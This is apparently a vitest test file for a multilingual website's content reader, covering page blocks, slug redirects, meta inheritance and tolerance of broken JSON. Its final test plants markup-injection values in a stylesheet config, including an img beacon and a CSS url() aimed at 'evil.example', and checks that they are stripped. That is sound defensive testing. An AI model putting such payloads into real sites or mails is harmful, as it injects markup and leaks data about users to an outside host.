import { cpSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { readMessages } from '@/lib/i18n/messages';
import { languages } from '@/lib/language';
import { log } from '@/lib/log';
import { composeEmail } from '@/lib/mail/compose';
import { copyContent } from '@/tests/support/content/content-folder';
import { findDetails, readAboutPage, readHomePage, readServicesPage } from './pages';
import * as read from './read';

const { folder, remove } = copyContent();
const files = readdirSync('content', { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.json'));
const restore = (path: string) => cpSync(join('content', path), join(folder, path));
const readJson = (path: string): unknown => JSON.parse(readFileSync(join(folder, path), 'utf8'));
const edit = (path: string, text: string) => writeFileSync(join(folder, path), text);
const listLoggedLines = () => vi.mocked(log.error).mock.calls.map((call) => call.at(-1) as string);

beforeEach(() => void vi.spyOn(log, 'error'));
afterEach(() =>
  files
    .filter(
      (path) =>
        !existsSync(join(folder, path)) ||
        readFileSync(join(folder, path), 'utf8') !== readFileSync(join('content', path), 'utf8'),
    )
    .forEach(restore),
);
afterAll(() => remove());

const listPagesWithoutBlocks = (lang: string) =>
  files
    .filter((path) => path.startsWith(`midan/${lang}/`) && path.endsWith('/meta-data.json'))
    .map((path) => path.split('/')[2] ?? '')
    .filter((page) => !['home-page', 'service-page', 'aboutus-page'].includes(page));

const readEverything = () =>
  Promise.all([
    read.readSiteConfig(),
    read.readStyle(),
    read.readPagesComponents(),
    read.readHeader(),
    read.readFooter(),
    read.readSocialLinks(),
    read.readProducts(),
    read.readLegal('policy'),
    read.readLegal('refund-policy'),
    read.readQuizzes(),
    ...languages.flatMap((lang) => [
      readHomePage(lang),
      readServicesPage(lang),
      readAboutPage(lang),
      read.readPricing(lang),
      read.readCourses(lang),
      read.readWorkCases(lang),
      read.readWorkClients(lang),
      read.readGuide(lang),
      readMessages(lang),
      ...listPagesWithoutBlocks(lang).map((page) => read.readMetaData(lang, page)),
    ]),
  ]);

describe('valid content', () => {
  it('gives every page its blocks in the listed order and logs nothing [C1, C3, C4]', async () => {
    expect((await readEverything()).every(Boolean)).toBe(true);
    expect((await readHomePage('ar'))?.blocks.map(({ fileName }) => fileName)).toEqual(
      (await read.readPagesComponents())?.homeComponents.map(({ fileName }) => fileName),
    );
    expect(
      (await readServicesPage('de'))?.blocks.flatMap(({ details }) => details.services).length,
    ).toBeGreaterThanOrEqual(6);
    expect((await readAboutPage('en'))?.blocks).toHaveLength(4);
    expect(listLoggedLines()).toEqual([]);
  });

  it('finds an item by the slug of its title, and redirects a former slug [A7, A14]', async () => {
    const found = await findDetails('ar', 'service-page', 'build', 'online-shops');
    expect(found).toMatchObject({
      state: 'found',
      item: { title: 'المتاجر الإلكترونية' },
      meta: { title: 'المتاجر الإلكترونية' },
    });
    expect(await findDetails('en', 'service-page', 'build', 'website-development')).toEqual({
      state: 'moved',
      slug: 'web-development',
    });
  });

  it('leads a link with appended characters to the item, also by a former slug [A7, A15]', async () => {
    const find = (slug: string) => findDetails('en', 'service-page', 'build', slug);
    for (const slug of ['web-development،', 'website-development&utm_source=x'])
      expect(await find(slug)).toEqual({ state: 'moved', slug: 'web-development' });
    expect(await find('nothing.')).toEqual({ state: 'missing' });
  });

  it('services of a hidden or unlisted block have no pages, unless the block list cannot be read [N5, A10]', async () => {
    const build = () => findDetails('en', 'service-page', 'build', 'web-development');
    const components = readJson('midan/pages-components.json') as {
      serviceComponents: Array<{ fileName: string; hidden?: boolean }>;
    };
    const [first, ...others] = components.serviceComponents;
    expect((await build()).state).toBe('found');
    for (const serviceComponents of [[{ ...first!, hidden: true }, ...others], others]) {
      edit('midan/pages-components.json', JSON.stringify({ ...components, serviceComponents }));
      expect((await build()).state).toBe('missing');
      expect((await findDetails('en', 'service-page', 'build', 'website-development')).state).toBe('missing');
      expect((await findDetails('en', 'service-page', 'promote', 'paid-campaigns')).state).toBe('found');
    }
    edit('midan/pages-components.json', '{}');
    expect((await build()).state).toBe('found');
  });

  it('a details page inherits the folder’s meta; the item’s own values win, also in og: and twitter: form [A7]', async () => {
    edit(
      'midan/en/service-page/meta-data.json',
      JSON.stringify({
        meta: {
          title: 'Our services',
          description: 'All of them',
          'og:title': 'Services',
          'twitter:description': 'All',
          'og:type': 'product',
          author: 'Midan',
        },
      }),
    );
    const findMeta = async (title: string) => {
      const found = await findDetails('en', 'service-page', 'build', title);
      return found.state === 'found' ? found.meta : null;
    };
    const build = readJson('midan/en/service-page/build.json') as { details: { services: Array<{ meta?: unknown }> } };
    expect(await findMeta('web-development')).toEqual({
      'og:type': 'product',
      author: 'Midan',
      ...(build.details.services[0]!.meta as object),
    });
    build.details.services[0]!.meta = { title: 'Web', robots: 'noindex' };
    delete build.details.services[1]!.meta;
    edit('midan/en/service-page/build.json', JSON.stringify(build));
    expect(await findMeta('web-development')).toEqual({
      title: 'Web',
      robots: 'noindex',
      description: 'All of them',
      'twitter:description': 'All',
      'og:type': 'product',
      author: 'Midan',
    });
    expect(await findMeta('mobile-apps')).toEqual({
      title: 'Our services',
      description: 'All of them',
      'og:title': 'Services',
      'twitter:description': 'All',
      'og:type': 'product',
      author: 'Midan',
    });
  });

  it.each([
    ['service-page', 'build', 'nothing'],
    ['service-page', 'meta-data', 'x'],
    ['nowhere', 'build', 'web-development'],
    ['..', 'build', 'x'],
    ['home-page', 'hero', 'midan'],
  ])('%s/%s/%s is missing and logged [A10]', async (pagename, filename, title) => {
    expect(await findDetails('ar', pagename, filename, title)).toEqual({ state: 'missing' });
    expect(listLoggedLines().at(-1)).toBe(`Resolver data is undefined: /ar/details/${pagename}/${filename}/${title}`);
  });
});

describe('broken content', () => {
  it('a page leaves out a missing block, and is null without its block list [B12, A10]', async () => {
    rmSync(join(folder, 'midan/ar/home-page/learn.json'));
    const blocks = (await readHomePage('ar'))?.blocks.map(({ fileName }) => fileName);
    expect(blocks).not.toContain('home-page/learn');
    expect(blocks).toHaveLength(4);
    expect(listLoggedLines()).toEqual(['Error fetching file: midan/ar/home-page/learn.json']);
    edit('midan/pages-components.json', '{}');
    expect(await readHomePage('ar')).toBeNull();
    expect(listLoggedLines().at(-1)).toBe('Resolver data is undefined: /ar/home');
    expect(listLoggedLines()).toContain('Error fetching file: midan/pages-components.json');
  });

  it('a broken header, footer, style or list of social links is null, and the others stay readable [B9]', async () => {
    for (const [path, reader] of [
      ['common/header.json', read.readHeader],
      ['common/footer.json', read.readFooter],
      ['common/socialMediaLinks.json', read.readSocialLinks],
      ['style.json', read.readStyle],
    ] as const) {
      edit(`midan/${path}`, '{"tabs": 1');
      expect(await reader(), path).toBeNull();
      expect(listLoggedLines().at(-1)).toBe(`Error fetching file: midan/${path}`);
    }
  });

  it('accepts the social links under their misspelt name too [S1]', async () => {
    const { socialMediaLinks } = JSON.parse(readFileSync('content/midan/common/socialMediaLinks.json', 'utf8')) as {
      socialMediaLinks: unknown;
    };
    edit('midan/common/socialMediaLinks.json', JSON.stringify({ soicalMediaLinks: socialMediaLinks }));
    expect(await read.readSocialLinks()).toEqual(socialMediaLinks);
  });

  it.each([
    ['cut off', (text: string) => text.slice(0, text.length / 2)],
    ['of another type', () => '[1, "two", {"three": null}]'],
    ['empty', () => ''],
    ['too large', (text: string) => text + ' '.repeat(3 * 1024 * 1024)],
  ])(
    'a file that is %s affects only its own part and is logged by its path [O2, B12]',
    async (_, spoil) => {
      for (const path of files) {
        vi.mocked(log.error).mockClear();
        edit(path, spoil(readFileSync(join('content', path), 'utf8')));
        const read = await readEverything();
        expect(listLoggedLines(), path).toContain(`Error fetching file: ${path}`);
        expect(read.filter(Boolean).length, path).toBeGreaterThanOrEqual(
          read.length - (path.endsWith('pages-components.json') ? 4 * languages.length : 1),
        );
        restore(path);
      }
    },
    60_000,
  );

  it('an invalid price or a duplicate key invalidates the whole product list, so that no price is guessed [P4]', async () => {
    const [first, second] = JSON.parse(readFileSync('content/midan/products.json', 'utf8')) as [
      { key: string },
      object,
    ];
    for (const change of [{ amount: -5 }, { amount: '990' }, { amount: undefined }, { amount: 10.005 }]) {
      edit('midan/products.json', JSON.stringify([{ ...first, ...change }, second]));
      expect(await read.readProducts(), JSON.stringify(change)).toBeNull();
    }
    edit('midan/products.json', JSON.stringify([first, { ...second, key: first.key }]));
    expect(await read.readProducts()).toBeNull();
    expect(JSON.stringify(vi.mocked(log.error).mock.calls.at(-1)?.[0])).toContain(`duplicate key ${first.key}`);
  });
});

it('no colour that an editor typed becomes markup of pages, mails and pictures [X49]', async () => {
  const beacon = `#fff"><img src='https://evil.example/?`;
  edit(
    'midan/style.json',
    JSON.stringify({
      '--paper': beacon,
      '--gold': "red'/><image/>",
      '--line': 'url(//evil.example/x)',
      '--ink': '#141d30',
    }),
  );
  const { html } = await composeEmail('one-time-code', 'en', { name: 'Mona', code: '123456', minutes: '10' });
  expect(html).toContain('123456');
  expect(html).not.toContain('evil.example');
  expect(await read.readStyle()).toEqual({ '--ink': '#141d30' });
});
